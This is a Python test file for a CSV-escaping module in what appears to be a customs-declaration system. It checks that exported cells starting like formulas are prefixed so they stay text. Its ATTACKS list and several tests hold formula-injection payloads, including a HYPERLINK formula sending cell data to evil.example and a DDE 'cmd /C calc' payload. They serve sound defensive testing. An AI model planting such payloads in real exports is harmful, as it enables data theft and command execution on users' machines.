"""Cells the node exports to CSV cannot be read as spreadsheet formulas: a text a declarant or an
analyst typed as ``=HYPERLINK(...)`` or ``@SUM(...)`` reaches the spreadsheet as text; numbers,
negative ones included, stay numbers; and a file the node reads back gets its text unchanged."""

from __future__ import annotations

import csv
import io

import orjson
from hypothesis import given, settings
from hypothesis import strategies as st

from avance.imports.runner import run_import
from avance.kit import csvsafe
from avance.risk.valuation.overrides_file import overrides_csv, parse_overrides_csv
from tests.support import declaration

ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"clic")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1", "-"]


def written(rows: list[list[object]]) -> str:
    buffer = io.StringIO()
    csvsafe.writer(buffer, lineterminator="\n").writerows(rows)
    return buffer.getvalue()


def test_a_text_that_starts_like_a_formula_is_written_as_text():
    [cells] = list(csv.reader(io.StringIO(written([ATTACKS]), newline="")))
    assert cells == ["'" + a for a in ATTACKS]  # a carriage return stays inside its (quoted) cell


def test_numbers_and_ordinary_text_are_written_as_they_are():
    values = ["-12.50", "+3", "-0,5", "1e-3", "-4E+2", "SN0012345A7", "2026-DKR-000001", "a=b", "", " =x"]
    [cells] = list(csv.reader(io.StringIO(written([[*values, -7, 12.5, None]]))))
    assert cells == [*values, "-7", "12.5", ""]


def test_a_dict_writer_makes_every_row_safe():
    buffer = io.StringIO()
    writer = csvsafe.DictWriter(buffer, fieldnames=["name", "value"], lineterminator="\n")
    writer.writeheader()
    writer.writerow({"name": "=1+1", "value": "-5"})
    writer.writerows([{"name": "@x", "value": -3}])
    assert buffer.getvalue() == "name,value\n'=1+1,-5\n'@x,-3\n"


@settings(max_examples=30, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("=+-@\t\r＝0123456789.,eE aZ'\"")), max_size=12))
def test_no_cell_ever_starts_like_a_formula_unless_it_is_a_number_and_the_text_comes_back(text):
    [[cell]] = list(csv.reader(io.StringIO(written([[text]]), newline=""))) or [[""]]
    if cell and cell[0] in csvsafe.TRIGGERS:
        assert csvsafe._NUMBER.fullmatch(cell)
    assert csvsafe.restore(cell) == text or (text.startswith("'") and csvsafe.restore(cell) == text[1:])


def test_the_value_control_file_exports_a_formula_note_as_text_and_reads_it_back_unchanged():
    note = '=HYPERLINK("http://evil.example","clic")'
    original = parse_overrides_csv(f'hs,min,max,note\n870323,1000,5000000,"{note.replace(chr(34), chr(34) * 2)}"\n')
    exported = overrides_csv(original)
    assert list(csv.DictReader(io.StringIO(exported)))[0]["note"] == "'" + note
    assert parse_overrides_csv(exported) == original and original[0].note == note


def test_the_rejects_file_of_an_import_cannot_run_a_formula(sqlite_node, tmp_path):
    bad = declaration('=HYPERLINK("http://evil.example","x")')
    source = tmp_path / "declarations.jsonl"
    source.write_bytes(orjson.dumps(bad) + b"\n")
    report = run_import(sqlite_node, source, workers=1, rejects_path=tmp_path / "rejects.csv", lang="en")
    assert report.rejected == 1
    with (tmp_path / "rejects.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert rows and {r["lrn"] for r in rows} == {"'" + bad["lrn"]}
    assert not any(value[:1] in csvsafe.TRIGGERS for r in rows for value in r.values())
